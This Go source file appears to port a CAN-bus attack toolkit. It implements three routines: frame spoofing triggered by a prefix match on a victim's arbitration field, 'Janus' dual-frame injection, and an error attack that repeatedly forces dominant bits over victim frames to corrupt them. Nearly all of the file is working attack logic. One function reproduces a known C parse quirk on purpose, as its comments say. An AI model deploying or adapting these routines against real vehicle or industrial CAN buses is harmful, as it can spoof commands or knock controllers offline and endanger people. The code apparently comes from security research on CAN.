package canhack

// SpoofFrame watches the bus for a prefix match against frame 1's first
// n_frame_match_bits bits (as derived by SetAttackMasks) and, once seen,
// transmits frame 1 (or, if janus is true, frames 1 and 2 together) with
// the usual SOF-detection and retry logic. Returns true if the frame was
// transmitted.
func (e *Engine) SpoofFrame(janus bool, syncTime, splitTime, syncTimeFD, splitTimeFD Ticks, retries uint32) bool {
	var prevRx Level = Recessive
	mask := e.attack.bitstreamMask
	match := e.attack.bitstreamMatch

	e.clock.ResetClock(0)
	var bitstream uint64
	samplePoint := e.timing.SamplePointOffset

	for {
		rx := e.pins.GetCANRx()
		now := e.clock.Now()

		switch {
		case prevRx == Recessive && rx == Dominant:
			// Bus-integration phase: realign on the falling edge.
			e.clock.ResetClock(0)
			samplePoint = e.timing.SamplePointOffset

		case reached(now, samplePoint):
			samplePoint = advance(samplePoint, e.timing.BitTime)
			bitstream = (bitstream << 1) | uint64(rx)
			// Ten recessive bits (bus idle) plus the target's SOF and
			// arbitration prefix, all matched in a single comparison.
			if bitstream&mask == match {
				if janus {
					return e.SendJanusFrame(syncTime, splitTime, syncTimeFD, splitTimeFD, retries)
				}
				return e.SendFrame(retries, false)
			}
		}

		prevRx = rx
		if e.timedOut() {
			e.pins.SetCANTxRecessive()
			return false
		}
	}
}

// SpoofFrameErrorPassive waits for the same prefix match as SpoofFrame, but
// instead of waiting for the next arbitration window it overlays frame 1's
// remaining bits directly on top of the victim frame, shifting bit_end and
// sample_point earlier by loopbackOffset to compensate for the prefix
// match's own sampling delay. This assumes the victim controllers are
// error-passive and so cannot assert an active error flag in response.
func (e *Engine) SpoofFrameErrorPassive(loopbackOffset Ticks) bool {
	var prevRx Level = Recessive
	mask := e.attack.bitstreamMask
	match := e.attack.bitstreamMatch

	e.clock.ResetClock(0)
	var bitstream uint64
	samplePoint := e.timing.SamplePointOffset

	for {
		rx := e.pins.GetCANRx()
		now := e.clock.Now()

		switch {
		case prevRx == Recessive && rx == Dominant:
			e.clock.ResetClock(0)
			samplePoint = e.timing.SamplePointOffset

		case reached(now, samplePoint):
			bitEnd := advance(samplePoint, e.timing.SampleToBitEnd)
			samplePoint = advance(samplePoint, e.timing.BitTime)
			bitstream = (bitstream << 1) | uint64(rx)

			if bitstream&mask == match {
				e.sendBits(bitEnd-loopbackOffset, samplePoint-loopbackOffset, &e.frames[Frame1], int(e.attack.nFrameMatchBits))
				return e.sent
			}
		}

		prevRx = rx
		if e.timedOut() {
			e.pins.SetCANTxRecessive()
			return false
		}
	}
}

// widenEOFMaskForBRS returns the EOF tail mask/match pair ErrorAttack uses
// for a BRS frame. It runs a shift loop over each 32-bit input and then
// overwrites the result, so both return values are always all ones.
//
// The original C source builds the non-BRS-widened value with a shift
// loop, then applies `eof_mask_brs =- 1;` — parsed by a C compiler as a
// plain assignment of -1, not (as the author most likely meant) `-= 1`.
// That assignment silently discards the preceding shift loop. spec.md §9
// flags this exact construction as ambiguous and says not to silently
// "fix" it without consulting the original author or tests neither of
// which is available here, so this reproduces the literal parse: the
// shifted value is computed and then unconditionally overwritten with all
// bits set (the unsigned result of assigning -1).
func widenEOFMaskForBRS(mask, match uint32) (uint64, uint64) {
	eofMaskBRS := uint64(1)
	tmpMask := mask
	for tmpMask != 0 {
		eofMaskBRS <<= 4
		tmpMask >>= 1
	}
	eofMaskBRS = ^uint64(0) // literal `=- 1`, not `-= 1`; see doc comment above

	eofMatchBRS := uint64(1)
	tmpMatch := match
	for tmpMatch != 0 {
		eofMatchBRS <<= 4
		tmpMatch >>= 1
	}
	eofMatchBRS = ^uint64(0)

	return eofMaskBRS, eofMatchBRS
}

// ErrorAttack watches for the same prefix match as SpoofFrame and then,
// optionally, injects an active error flag (6 dominant bits). It then
// watches, up to repeat times, for a 32-bit tail pattern (eofMask,
// eofMatch) and on each match drives 7 dominant bits before releasing —
// intended to corrupt the victim frame's EOF/IFS region repeatedly. If the
// target frame (frame 1) has BRS set, the tail-match constants and the
// active bit-time/sample-point are switched to their FD variants for that
// phase (see widenEOFMaskForBRS for the faithfully-reproduced ambiguity in
// that switch).
func (e *Engine) ErrorAttack(repeat uint32, injectError bool, eofMask, eofMatch uint32) bool {
	var prevRx Level = Recessive
	mask := e.attack.bitstreamMask
	match := e.attack.bitstreamMatch
	brs := e.frames[Frame1].BRS

	var eofMaskBRS, eofMatchBRS uint64
	if brs {
		eofMaskBRS, eofMatchBRS = widenEOFMaskForBRS(eofMask, eofMatch)
	}

	e.clock.ResetClock(0)
	var bitstream64 uint64
	samplePoint := e.timing.SamplePointOffset
	var bitEnd Ticks

	for {
		now := e.clock.Now()
		rx := e.pins.GetCANRx()

		switch {
		case prevRx == Recessive && rx == Dominant:
			e.clock.ResetClock(e.timing.FallingEdgeRecalibrate)
			// Reset to the absolute offset, not advanced from the new
			// clock origin — reproduced literally per spec.md §9's
			// third open question.
			samplePoint = e.timing.SamplePointOffset

		case reached(now, samplePoint):
			bitstream64 = (bitstream64 << 1) | uint64(rx)
			bitEnd = sampleToBitEnd(samplePoint, e.timing.SampleToBitEnd)
			samplePoint = advance(samplePoint, e.timing.BitTime)
			if bitstream64&mask == match {
				goto matched
			}
		}

		prevRx = rx
		if e.timedOut() {
			return false
		}
	}

matched:
	// bitEnd is in the future; samplePoint is already past bitEnd.

	if injectError {
		for {
			now := e.clock.Now()
			if reached(now, bitEnd) {
				e.pins.SetCANTxDominant()
				break
			}
			if e.timedOut() {
				e.pins.SetCANTxRecessive()
				return false
			}
		}
		bitEnd = advance(bitEnd, e.timing.BitTime*6)
		samplePoint = advance(samplePoint, e.timing.BitTime*6)
		for {
			now := e.clock.Now()
			if reached(now, bitEnd) {
				e.pins.SetCANTxRecessive()
				break
			}
			if e.timedOut() {
				e.pins.SetCANTxRecessive()
				return false
			}
		}
	}

	curSamplePointOffset := e.timing.SamplePointOffset
	curBitTime := e.timing.BitTime
	tailMask := uint64(eofMask)
	tailMatch := uint64(eofMatch)
	if brs {
		curSamplePointOffset = e.timing.SamplePointOffsetFD
		curBitTime = e.timing.BitTimeFD
		tailMask = eofMaskBRS
		tailMatch = eofMatchBRS
	}

	var bitstream32 uint64
	for i := uint32(0); i < repeat; i++ {
		for {
			now := e.clock.Now()
			rx := e.pins.GetCANRx()
			if prevRx == Recessive && rx == Dominant {
				e.clock.ResetClock(e.timing.FallingEdgeRecalibrate)
				samplePoint = curSamplePointOffset
			} else if reached(now, samplePoint) {
				bitstream32 = (bitstream32 << 1) | uint64(rx)
				bitEnd = sampleToBitEnd(samplePoint, curSamplePointOffset)
				samplePoint = advance(samplePoint, curBitTime)
				if bitstream32&tailMask == tailMatch {
					// Inject seven dominant bits even if every other
					// device is error-passive and would not otherwise
					// signal an active error.
					for {
						now = e.clock.Now()
						if reached(now, bitEnd) {
							e.pins.SetCANTxDominant()
							bitEnd = advance(bitEnd, curBitTime*7)
							samplePoint = advance(samplePoint, curBitTime*7)
							bitstream32 <<= 7
							break
						}
						if e.timedOut() {
							e.pins.SetCANTxRecessive()
							return false
						}
					}
					for {
						now = e.clock.Now()
						if reached(now, bitEnd) {
							e.pins.SetCANTxRecessive()
							break
						}
						if e.timedOut() {
							e.pins.SetCANTxRecessive()
							return false
						}
					}
					break
				}
			}
			prevRx = rx
			if e.timedOut() {
				e.pins.SetCANTxRecessive()
				return false
			}
		}
	}
	return true
}

// sampleToBitEnd mirrors `sample_point + offset` in the original source:
// an advance computed without the wraparound-tolerant ADVANCE() helper,
// since the caller already knows samplePoint is in the recent past.
func sampleToBitEnd(samplePoint, offset Ticks) Ticks {
	return samplePoint + offset
}
